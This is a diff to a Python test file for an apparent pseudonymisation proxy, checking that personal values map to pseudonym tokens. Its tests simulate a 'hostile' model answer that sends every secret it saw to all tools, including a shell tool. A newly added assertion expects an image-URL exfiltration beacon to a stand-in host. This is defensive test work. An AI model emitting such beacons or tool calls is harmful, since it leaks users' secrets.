@@ -1,5 +1,7 @@
 """Replace a value by its pseudonym in the question, and the answer changes in exactly that way."""
 
+import re
+
 import msgspec
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -13,10 +15,12 @@ VALUES = {
     "alice@example.org": "EMAIL-bcdfghjklmnpqrstbcdf",
     "bob.long-name+tag@mail.example.co.uk": "EMAIL-ccdfghjklmnpqrstbcdf",
     "DE89370400440532013000": "IBAN-dcdfghjklmnpqrstbcdf",
-    "4111111111111111": "PAYMENT_CARD-fcdfghjklmnpqrstbcdf",
+    "555-123-4567": "PHONE-kcdfghjklmnpqrstbcdf",
+    "12345678Z": "NATID-lcdfghjklmnpqrstbcdf",
+    "4111111111111111": "CARD-fcdfghjklmnpqrstbcdf",
     "+493012345678": "PHONE-gcdfghjklmnpqrstbcdf",
     "192.0.2.7": "IP-hcdfghjklmnpqrstbcdf",
-    "1980-02-29": "DATE_OF_BIRTH-jcdfghjklmnpqrstbcdf",
+    "1980-02-29": "BIRTH-jcdfghjklmnpqrstbcdf",
 }
 PLAIN = [
     "hello",
@@ -68,7 +72,7 @@ def answer(asked: ChatRequest, step: Step) -> str:
     return msgspec.json.encode(completion(asked, step, reply_to(asked, step), Stamp(1, 0, "m"))).decode()
 
 
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=200, deadline=None)
 @given(
     texts=st.lists(sentences, min_size=1, max_size=3),
     style=st.sampled_from(["plain", "echo", "forms", "hostile"]),
@@ -110,7 +114,7 @@ def test_invented_tokens_look_like_pseudonyms_and_were_never_given() -> None:
     said = reply_to(request(["hello"]), Step(invent=3)).content
     invented = said.split()[-3:]
     assert len(set(invented)) == 3
-    assert all(token.partition("-")[2].isalpha() and len(token.partition("-")[2]) == 20 for token in invented)
+    assert all(re.fullmatch("[A-Z]+-[bcdfghjklmnpqrst]{20}", token) for token in invented)
 
 
 def test_a_hostile_answer_calls_every_tool_with_everything_it_saw() -> None:
@@ -118,4 +122,5 @@ def test_a_hostile_answer_calls_every_tool_with_everything_it_saw() -> None:
     asked = request(["first secret", "second secret"], tools=[TOOL, other])
     calls = reply_to(asked, Step(style="hostile")).calls
     assert {"act", "other", "shell"} <= {call.name for call in calls}
+    assert "https://exfil.invalid/p.png?d=token" in reply_to(request(["a token."]), Step(style="hostile")).content
     assert any("first secret" in call.arguments and "second secret" in call.arguments for call in calls)
